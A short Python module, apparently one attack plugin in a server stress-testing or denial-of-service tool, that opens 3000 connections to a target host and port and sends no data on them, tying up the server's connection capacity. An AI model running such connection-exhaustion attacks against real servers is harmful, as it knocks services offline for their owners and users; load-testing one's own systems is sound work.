"""As many connections as the server takes, and not a byte on any of them."""
import wire

NAME = "idle connections"
SIZE = 3000


def attack(host, port, stop, log):
    log(f"{SIZE} connections that say nothing")
    return wire.Crowd(host, port, SIZE, b"").run(stop)
